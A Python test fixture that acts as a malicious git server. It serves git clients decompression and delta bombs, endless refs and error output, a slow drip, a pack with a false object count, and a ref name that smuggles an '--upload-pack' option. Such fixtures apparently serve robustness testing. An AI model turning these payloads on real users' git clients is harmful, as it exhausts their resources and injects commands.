"""A git server that means harm: speaks git's own protocol on standard input and output, as `ssh` would carry it.

`python server.py MODE [FILE]`, given to git as GIT_SSH_COMMAND. It imports nothing but the standard library, for git
starts it.
"""

from __future__ import annotations

import hashlib
import itertools
import struct
import sys
import time
import zlib
from contextlib import suppress
from typing import TYPE_CHECKING, NoReturn

if TYPE_CHECKING:
    from collections.abc import Callable

COMMIT = hashlib.sha1(" ".join(sys.argv).encode()).hexdigest()
"""The commit that the branch is said to show: another one in each mode, for a node remembers what it refused."""
HUGE = 2**33
"""Bytes of what inflates: eight gibibytes, from eight mebibytes."""


def packet(text: str) -> bytes:
    """A line of git's protocol (gitprotocol-common)."""
    return f"{len(text) + 4:04x}{text}".encode()


def advertise(ref: str = "refs/heads/main") -> bytes:
    """What a server of the first protocol says of itself (gitprotocol-pack)."""
    return packet(f"{COMMIT} {ref}\0ofs-delta shallow agent=git/hostile\n") + b"0000"


def header(kind: int, size: int) -> bytes:
    """An object's header in a pack (gitformat-pack): its type, and what it says is its size."""
    first, rest = (kind << 4) | (size & 15), size >> 4
    out = bytearray()
    while rest:
        out.append(first | 0x80)
        first, rest = rest & 0x7F, rest >> 7
    return bytes([*out, first])


def pack(*objects: bytes) -> bytes:
    """A pack of encoded objects."""
    body = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
    return body + hashlib.sha1(body).digest()


def inflating() -> bytes:
    """One object of zeros without end: a deflated block that is repeated."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(2**24)
    first, repeated = (deflater.compress(block) + deflater.flush(zlib.Z_SYNC_FLUSH) for _ in range(2))
    return header(3, HUGE) + b"\x78\xda" + first + repeated * (HUGE // len(block) - 1)


def deltas() -> bytes:
    """A small object, and a delta of some bytes that makes three gibibytes out of it, by copying it again and again."""
    base = bytes(2**16)
    size = 3 * 2**30
    name = hashlib.sha1(b"blob %d\0" % len(base) + base).digest()
    delta = _varint(len(base)) + _varint(size) + b"\x80" * (size // len(base))
    return pack(header(3, len(base)) + zlib.compress(base), header(7, len(delta)) + name + zlib.compress(delta))


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def say(data: bytes) -> None:
    """Send."""
    sys.stdout.buffer.write(data)
    sys.stdout.buffer.flush()


def fetched(content: bytes) -> None:
    """Serve a pack to whoever fetches; to whoever only asks, the branch."""
    say(advertise())
    while line := sys.stdin.buffer.read(4):
        length = int(line, 16)
        words = sys.stdin.buffer.read(length - 4) if length else b""
        if words.startswith(b"deepen"):
            say(packet(f"shallow {COMMIT}") + b"0000")
        if words.startswith(b"done"):
            say(packet("NAK\n"))
            say(content)
            return


def drip() -> None:
    """A byte at a time."""
    for byte in advertise() * 1000:
        say(bytes([byte]))
        time.sleep(0.5)


def refs() -> NoReturn:
    """Branches without end."""
    say(packet(f"{COMMIT} refs/heads/main\0agent=git/hostile\n"))
    for start in itertools.count(0, 1000):
        say(b"".join(packet(f"{COMMIT} refs/heads/{number:0200d}\n") for number in range(start, start + 1000)))
    raise AssertionError


def words() -> NoReturn:
    """An error message without end."""
    while True:
        sys.stderr.buffer.write(b"\x1b[31mfatal: " + b"x" * 65_000 + b"\n")


def countless() -> None:
    """A pack of a thousand objects that claims two thousand million."""
    fetched(b"PACK" + struct.pack(">II", 2, 2**31) + (header(3, 0) + zlib.compress(b"")) * 1000)


MODES: dict[str, Callable[[], None]] = {
    "silent": lambda: time.sleep(3600),
    "drip": drip,
    "refs": refs,
    "words": words,
    "option": lambda: say(advertise("refs/heads/--upload-pack=touch")),
    "garbage": lambda: say(b"HTTP/1.1 200 OK\r\n\r\n<html>"),
    "countless": countless,
    "inflating": lambda: fetched(b"PACK" + struct.pack(">II", 2, 1) + inflating()),
    "deltas": lambda: fetched(deltas()),
}

if __name__ == "__main__":
    with suppress(BrokenPipeError):
        MODES[sys.argv[1]]()
